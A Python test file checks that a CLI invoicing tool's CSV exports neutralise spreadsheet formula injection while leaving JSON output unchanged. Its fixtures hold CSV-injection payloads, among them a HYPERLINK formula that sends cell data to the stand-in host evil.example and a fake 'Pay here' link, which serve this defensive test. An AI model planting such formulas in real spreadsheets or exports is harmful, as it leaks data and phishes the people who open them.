"""Every `--format csv` of the command line neutralises formulas (issue 14, finding 6), through the
one function the web statement uses too (gvia.core.cells); amounts and dates stay numbers and
`--format json` is unchanged."""

from __future__ import annotations

import csv
import io
import json

EVIL_NUMBER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_NAME = '=HYPERLINK("http://evil.example","Pay here")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_exports_neutralise_formulas_json_unchanged(gvia_org, tmp_path):
    inv = tmp_path / "inv.csv"
    with inv.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["customer_ref", "customer_name", "invoice_number", "issue_date", "due_date", "amount"])
        w.writerow(["C1", EVIL_NAME, EVIL_NUMBER, "2026-09-01", "2026-10-01", "1000.00"])
        w.writerow(["C2", "+972 Trading", "INV-2", "2026-09-01", "2026-10-01", "300.00"])
    pay = tmp_path / "pay.csv"
    pay.write_text("customer_ref,date,amount,reference\nC1,2026-10-05,1250.00,@SUM(1+1)\n", encoding="utf-8")
    assert gvia_org("import", "invoices", str(inv)).code == 0
    assert gvia_org("import", "payments", str(pay)).code == 0

    outs = {}
    for args in (("statement", "C1"), ("customers",), ("aging", "--by", "customer")):
        r = gvia_org(*args, "--as-of", "2026-11-23", "--format", "csv")
        assert r.code == 0, r.err
        outs[args[0]] = r.out
        cells = _cells(r.out)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], (args, r.out)
        assert not [c for c in cells if c.startswith("-") and c != "-250.00"], (args, r.out)
    st = _cells(outs["statement"])
    assert "'" + EVIL_NUMBER in st and "'@SUM(1+1)" in st
    assert "-250.00" in st and "2026-09-01" in st
    assert "'" + EVIL_NAME in _cells(outs["customers"]) and "'+972 Trading" in _cells(outs["customers"])
    assert "'+972 Trading" in _cells(outs["aging"])

    r = gvia_org("statement", "C1", "--as-of", "2026-11-23", "--format", "json")
    data = json.loads(r.out)
    assert data["customer"]["name"] == EVIL_NAME
    assert data["lines"][0]["reference"] == EVIL_NUMBER
